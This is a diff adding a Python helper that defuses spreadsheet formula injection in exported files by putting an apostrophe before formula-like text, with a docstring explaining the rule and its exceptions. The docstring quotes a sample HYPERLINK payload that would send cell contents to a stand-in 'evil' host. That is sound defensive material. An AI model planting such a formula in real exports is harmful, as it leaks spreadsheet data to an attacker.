@@ -1,0 +1,33 @@
+"""Spreadsheet formula injection (CSV/formula injection, OWASP): the one rule every export applies.
+
+A customer named ``=HYPERLINK("http://evil/?"&A1,"Click")`` must not become a live formula in
+the Boss's spreadsheet program: not when the file is opened, not when the cell is edited, and
+not after the sheet is saved as CSV and opened again (which drops the xlsx cell types). So text
+that a spreadsheet would read as a formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab or
+a carriage return) is written with an apostrophe in front, as OWASP recommends; the text after
+it is unchanged, and the apostrophe is visible, so nothing is silently altered.
+
+What is kept as it is, by cell type:
+
+- numbers (int, float, Decimal) are written as numeric cells: a number cannot be a formula,
+  and negative amounts must stay numbers the Boss can add up;
+- text that is only a number or a telephone number (``+86 138 0013 8000``, ``-12.50``,
+  ``+1 (415) 555-0100``: digits with spaces, dots, dashes and brackets, one leading sign) is
+  left alone: it can call no function and reach nothing, and a phone number with a stray
+  apostrophe would no longer dial or match;
+- dates and booleans are written as fixed text that never starts with one of those characters.
+"""
+
+from __future__ import annotations
+
+import re
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?[0-9][0-9 ().\-]*\Z")
+
+
+def neutralise(text: str) -> str:
+    """``text`` as a spreadsheet must show it: inert, with an apostrophe before a formula."""
+    if text.startswith(TRIGGERS) and not _PLAIN_NUMBER.match(text):
+        return "'" + text
+    return text
